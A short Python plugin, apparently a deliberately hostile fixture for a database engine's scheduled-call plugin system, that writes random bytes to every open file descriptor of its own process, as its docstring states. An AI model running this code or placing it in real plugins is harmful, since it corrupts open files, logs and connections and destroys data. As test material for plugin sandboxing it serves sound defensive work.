"""Writes garbage to every descriptor it finds."""

import contextlib
import os


def process_scheduled_call(influxdb3_local, call_time, args=None):
    for descriptor in map(int, os.listdir("/proc/self/fd")):
        with contextlib.suppress(OSError):
            os.write(descriptor, os.urandom(50_000))
